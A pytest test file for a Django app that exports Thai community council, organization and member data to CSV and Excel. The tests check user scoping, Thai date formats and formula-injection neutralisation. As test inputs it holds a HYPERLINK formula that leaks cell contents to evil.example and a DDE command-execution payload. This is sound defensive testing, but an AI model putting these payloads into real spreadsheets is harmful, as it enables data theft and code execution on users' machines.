"""Exports of councils, organizations and members: scoped to the user, safe in Excel."""

import csv
import datetime as dt
import io

import openpyxl
import pytest

from councils.imports.excel import neutralise

from ..factories import CommunityOrganizationFactory, CouncilMemberFactory, PersonFactory
from . import import_corpus as corpus

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"คลิก")'


def _csv(response):
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1+1", "'=1+1"), ("+66812345678", "'+66812345678"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),
     ("\tx", "'\tx"), ("\rx", "'\rx"), ("กลุ่ม=ดี", "กลุ่ม=ดี"), (42, 42), (None, None)],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_a_regional_codi_export_holds_only_their_provinces_and_is_neutralised(world, codi_regional, client):
    CommunityOrganizationFactory(council=world.council_x, code="CO1", name=HYPERLINK, founded_on=dt.date(1997, 3, 15))
    CommunityOrganizationFactory(council=world.council_z, code="CO2", name="-ลบ")
    CommunityOrganizationFactory(council=world.council_w, code="CO3", name="เชียงราย")  # province 57
    client.force_login(codi_regional)
    rows = _csv(client.get("/councils/exports/organizations.csv"))
    assert rows[0] == corpus.ORG_HEADERS
    assert [row[:4] for row in rows[1:]] == [
        ["CO1", "'" + HYPERLINK, "กลุ่มออมทรัพย์", "500203"],
        ["CO2", "'-ลบ", "กลุ่มออมทรัพย์", "500401"],
    ]
    assert rows[1][6] == "15/03/2540"


def test_xlsx_export_is_neutralised_and_scoped(world, staff_x, client):
    CommunityOrganizationFactory(council=world.council_x, code="CO1", name=HYPERLINK)
    CommunityOrganizationFactory(council=world.council_y, code="CO2")
    client.force_login(staff_x)
    response = client.get("/councils/exports/organizations.xlsx")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.worksheets[0]
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == tuple(corpus.ORG_HEADERS)
    assert [row[:2] for row in values[1:]] == [("CO1", HYPERLINK)]  # the text as it is, no apostrophe added
    assert sheet["B2"].data_type == "s" and sheet["B2"].quotePrefix  # a text cell Excel will not run
    assert not sheet["A2"].quotePrefix  # only formula-like text is quote-prefixed


def test_xlsx_export_has_numbers_and_buddhist_era_date_cells(world, staff_x, client):
    CommunityOrganizationFactory(council=world.council_x, code="CO1", member_count=42, founded_on=dt.date(1997, 3, 15),
                                 registered_on=None)
    CommunityOrganizationFactory(council=world.council_x, code="CO2", member_count=1200)
    client.force_login(staff_x)
    response = client.get("/councils/exports/organizations.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets[0]
    headers = [cell.value for cell in sheet[1]]
    count = headers.index("จำนวนสมาชิก") + 1
    founded = headers.index("วันที่ก่อตั้ง (พ.ศ.)") + 1
    registered = headers.index("วันที่จดแจ้ง (พ.ศ.)") + 1
    assert [sheet.cell(row, count).value for row in (2, 3)] == [42, 1200]  # numbers: they add up in Excel
    assert all(sheet.cell(row, count).data_type == "n" for row in (2, 3))
    cell = sheet.cell(2, founded)
    assert (cell.value, cell.is_date, cell.number_format) == (
        dt.datetime(1997, 3, 15), True, "[$-107041E]d/m/yyyy"  # a real date, shown 15/3/2540
    )
    assert sheet.cell(2, registered).value is None  # no date: an empty cell, not ""
    tambon = sheet.cell(2, headers.index("รหัสตำบล") + 1)
    assert (tambon.value, tambon.data_type) == ("500203", "s")  # codes stay text


def test_members_export_has_no_national_id_nor_phone(world, codi_staff, client):
    person = PersonFactory(full_name="=cmd|' /C calc'!A0", phone="081-999-9999")
    CouncilMemberFactory(council=world.council_x, person=person, term_start=dt.date(2023, 1, 1))
    client.force_login(codi_staff)
    rows = _csv(client.get("/councils/exports/members.csv"))
    assert rows == [
        ["รหัสตำบล", "ชื่อ-สกุล", "ตำแหน่ง", "รหัสองค์กร (พอช.)", "เริ่มวาระ (พ.ศ.)", "สิ้นสุดวาระ (พ.ศ.)"],
        ["500203", "'=cmd|' /C calc'!A0", "สมาชิก", "", "01/01/2566", ""],
    ]


def test_councils_export_for_a_district_officer(world, officer_d, client):
    client.force_login(officer_d)
    rows = _csv(client.get("/councils/exports/councils.csv"))
    assert [row[0] for row in rows[1:]] == ["500203", "500204"]


def test_export_needs_a_login_and_a_known_kind(world, codi_staff, client):
    response = client.get("/councils/exports/organizations.csv")
    assert response.status_code == 302 and response["Location"].startswith("/accounts/login/")
    client.force_login(codi_staff)
    assert client.get("/councils/exports/people.csv").status_code == 404
    assert client.get("/councils/exports/organizations.pdf").status_code == 404


@pytest.mark.parametrize("count", [2, 12])
def test_export_runs_a_fixed_number_of_queries(count, world, codi_staff, client, django_assert_num_queries):
    for n in range(count):
        CommunityOrganizationFactory(council=world.council_x, code=f"CO{n:03d}")
        CouncilMemberFactory(council=world.council_x)
    client.force_login(codi_staff)
    client.get("/councils/")  # the session and the user's scope are loaded once
    # One of them counts the rows: few enough to be made in the request, not by a job.
    with django_assert_num_queries(6):
        rows = _csv(client.get("/councils/exports/organizations.csv"))
    assert len(rows) == count + 1
    with django_assert_num_queries(6):
        rows = _csv(client.get("/councils/exports/members.csv"))
    assert len(rows) == count + 1
